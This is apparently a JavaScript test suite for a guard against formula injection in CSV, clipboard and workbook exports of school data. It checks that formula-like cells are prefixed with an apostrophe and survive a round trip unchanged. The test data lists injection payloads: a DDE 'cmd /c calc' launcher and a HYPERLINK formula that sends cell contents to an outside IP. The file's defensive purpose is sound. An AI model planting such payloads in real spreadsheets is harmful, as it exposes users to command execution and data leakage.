// SPDX-License-Identifier: MIT
//
// What goes out as cells is computed by no spreadsheet, and comes back as the same data: CSV, both forms of the
// clipboard, workbooks.

import assert from "node:assert/strict";
import { test } from "node:test";
import { loadJunheng } from "../../dist/site/engine/junheng.js";
import { strFromU8, unzipSync } from "../../web/node_modules/fflate/esm/index.mjs";
import { sourceModule } from "../support/sources.mjs";
import { bundle, random } from "../support/workbooks.mjs";

const { readWorkbook, writeCsv, writeWorkbook } = bundle;
const { guarded, guardsOf, isFormula } = await sourceModule("files/formula_guard.ts");
const { formsOf, guardSentence } = await sourceModule("kit/copy_table.ts");
const junheng = await loadJunheng();

const kComputed = [
  "=1+1",
  "+1+1",
  "-松柏小学",
  "@SUM(A1)",
  "=cmd|'/c calc'!A0",
  "+cmd|'/c calc'!A0",
  "-2+3+cmd|'/c calc'!A0",
  "@SUM(1+1)*cmd|'/c calc'!A0",
  '=DDE("cmd";"/c calc";"x")',
  '=HYPERLINK("http://192.0.2.1/?"&A1,"松柏")',
  "=IMPORTXML(A1)",
  "＝1+1",
  "＋1＋1",
  "－松柏",
  "＠松柏",
  "﹦1",
  "﹢松柏",
  "﹣松柏",
  "﹫松柏",
  " =1+1",
  "\u3000=1+1",
  "\u00a0+松柏",
  "\u200b=1+1",
  "\ufeff@松柏",
  "\u202e=1",
  "\u034f=1",
  "\u1160@松柏",
  "\u3164+1+1",
  "\u{e0041}=1",
  "\u0001=1",
  "\t=1",
  "\r=1",
  "\n=1",
  "\t松柏",
  "'=1+1",
  "''-松柏",
  "+86-23",
  "-1e5",
  "--1",
];
const kHonest = [
  "",
  "松柏小学",
  "校=1",
  "1-2",
  "12",
  "-3.5",
  "+1",
  "-0.5",
  "-85%",
  "－85％",
  "-1,234.5",
  " -12 ",
  "-",
  "--",
  "———",
  "－",
  "- -",
  "−5",
  "'松柏",
  "'12",
  "a@b.cn",
  "#1",
  "（-1）",
];

test("what begins a formula, and what only looks like it", () => {
  for (const text of kComputed) {
    assert.ok(isFormula(text), JSON.stringify(text));
    assert.equal(guarded(text), `'${text}`);
  }
  for (const text of kHonest) {
    assert.ok(!isFormula(text), JSON.stringify(text));
    assert.equal(guarded(text), text);
  }
  assert.ok(isFormula(`-${"1".repeat(300)}`), "no number is that long");
});

test("hostile texts are looked at in one pass", () => {
  for (const part of ["-", " ", "'", "-1", "\u200b", "- ", "-,"]) {
    const begun = performance.now();
    isFormula(part.repeat(300_000));
    assert.ok(performance.now() - begun < 300, JSON.stringify(part));
  }
});

test("it is said how many and which is the first", () => {
  const guards = guardsOf([
    ["校名", "=1"],
    ["-3", "甲", "+松柏\n小学的名字比一句话能说的还要长得多得多"],
  ]);
  assert.deepEqual([guards.count, guards.first], [2, { row: 1, column: 2, text: "=1" }]);
  assert.equal(guardSentence(guards, "{count} {row} {column} {text}"), "2 1 2 =1");
  assert.equal(guardSentence(guardsOf([["松柏", "-3"]]), "{count}"), "");
  assert.match(
    guardSentence(guardsOf([["+松柏\n小学的名字比一句话能说的还要长得多得多"]]), "{text}"),
    /^\+松柏 小学的名字比一句话能说的还要长得…$/,
  );
});

test("CSV: each such cell has an apostrophe, no other has one", () => {
  for (const text of kComputed)
    assert.equal(writeCsv([["a", text]]), `a,"'${text.replaceAll('"', '""')}"\r\n`, JSON.stringify(text));
  for (const text of kHonest) assert.ok(!/^a,"?'(?![松1])/.test(writeCsv([["a", text]])), JSON.stringify(text));
});

test("the clipboard: heads, cells and caption, in both forms", () => {
  const lines = ["=A1\t+松柏\t在校生数", "@甲小学\t-松柏\t-3.5", "＝乙小学\t'=1\t—"];
  const { plain, html, guards } = formsOf(`${lines.join("\n")}\n`, "=HYPERLINK(1)");
  assert.equal(plain, "'=A1\t'+松柏\t在校生数\r\n'@甲小学\t'-松柏\t-3.5\r\n'＝乙小学\t''=1\t—");
  const cells = [...html.matchAll(/<(?:td|th|caption)>([^<]*)</g)].map((found) => found[1]);
  assert.deepEqual(cells, ["'=HYPERLINK(1)", ...plain.split(/[\t\n]/).map((text) => text.replace("\r", ""))]);
  assert.deepEqual([guards.count, guards.first], [6, { row: 1, column: 1, text: "=A1" }]);
});

const rowsOf = (table) => {
  const { sheets } = junheng.read({ table, count: 0 });
  return junheng.read({ table, count: sheets[0].rows }).rows.map(({ cells }) => cells);
};
/** With heads, so that every reader takes the lines for a table. */
const tableOf = (texts) => [
  ["学校名称", "备注", "在校生数"],
  ...texts.map((text, i) => [`第${i + 1}小学`, text, "100"]),
];

test("what was written is read again as it was: CSV, clipboard, workbook", async () => {
  // Line breaks in a cell are another matter: the clipboard has none. Nor have pages marks that nobody sees.
  const texts = [...kComputed, ...kHonest].filter((text) => !/[\t\r\n]/.test(text) && text === text.trim());
  const seen = texts.filter((text) => !/[\0-\x1f\u200b-\u202e]/.test(text));
  const cells = tableOf(texts);
  const shown = tableOf(seen);
  assert.deepEqual(rowsOf(writeCsv(cells, { bom: true })), cells);
  assert.deepEqual(rowsOf(formsOf(cells.map((row) => row.join("\t")).join("\n"), "表").plain), cells);
  const { html } = formsOf(shown.map((row) => row.join("\t")).join("\n"), "表");
  assert.deepEqual(rowsOf(`<html><body>${html.replace(/<caption>.*?<\/caption>/, "")}</body></html>`), shown);
  // Of a workbook's own text the apostrophe before a formula is taken for a guard, too.
  const [sheet] = (await readWorkbook(writeWorkbook([{ name: "表", cells: shown }]))).sheets;
  const without = (row) => row.map((text) => text.replace(/^'(?='?[=-])/, ""));
  assert.deepEqual(rowsOf(sheet.html), shown.map(without));
});

test("10,000 random cells come back through CSV", () => {
  const next = random(20262);
  const pieces = ["=", "+", "-", "@", "＝", "'", "1", ".5", "松", ",", "%", "\u200b", '"', "e", "|", "!"];
  const texts = [];
  while (texts.length < 10_000) {
    let text = "";
    for (let n = 1 + Math.floor(next() * 6); n > 0; n -= 1) text += pieces[Math.floor(next() * pieces.length)];
    // ="a" and =12 are how other programs write a and 12
    if (!/^=/.test(text)) texts.push(text);
  }
  const cells = tableOf(texts);
  assert.deepEqual(rowsOf(writeCsv(cells)), cells);
});

test("in a workbook such a cell stays a text when somebody edits it", () => {
  for (const [text, style] of [
    ["=1+1", 2],
    ["＝1+1", 2],
    ["\u200b=1", 2],
    ["@松柏", 2],
    ["=1\n2", 3],
    ["松柏", 0],
  ]) {
    const files = unzipSync(writeWorkbook([{ name: "表", cells: [[text]] }]));
    const [sheet, styles] = ["worksheets/sheet1", "styles"].map((name) => strFromU8(files[`xl/${name}.xml`]));
    assert.match(sheet, style === 0 ? /<c r="A1" t=/ : new RegExp(`<c r="A1" s="${style}" t="inlineStr"`), text);
    const formats = [...styles.split("<cellXfs")[1].matchAll(/<xf [^>]*>/g)].map(([xf]) => xf);
    assert.equal(/numFmtId="49".*quotePrefix="1"/.test(formats[style]), style > 0, text);
  }
});
